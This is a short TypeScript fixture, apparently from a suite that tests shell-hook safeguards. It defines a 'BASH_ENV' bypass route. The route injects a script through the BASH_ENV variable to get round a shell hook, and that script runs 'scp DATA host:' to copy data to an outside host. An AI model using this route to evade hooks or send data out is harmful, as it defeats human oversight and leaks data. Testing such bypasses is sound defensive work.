import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'BASH_ENV',
  source: 'attempts to get round a hook of the shell',
  keys: ['BASH_ENV=./s.sh bash -c :\r'],
  files: { 's.sh': 'scp DATA host:\n' },
};
